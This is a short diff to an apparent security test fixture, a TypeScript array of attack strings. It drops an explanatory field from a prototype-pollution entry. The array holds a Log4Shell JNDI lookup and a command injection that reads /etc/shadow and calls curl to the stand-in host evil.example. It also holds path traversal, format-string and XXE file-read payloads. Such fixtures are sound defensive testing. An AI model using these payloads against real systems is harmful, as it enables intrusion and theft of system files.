@@ -52,7 +52,7 @@ export const formulas: Attack[] = [
   { says: "${jndi:ldap://evil.example/a}", wants: "evil.example" },
   { says: "%s%s%s%n %d %x" },
   { says: "team_size = 8888;" },
-  { owed: "the word constructor is looked up where words are not", says: "__proto__ constructor prototype toString" },
+  { says: "__proto__ constructor prototype toString" },
   { says: "../../../../etc/passwd" },
   { says: "| cat /etc/shadow && curl evil.example", wants: "evil.example" },
   { says: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', wants: "root:" },
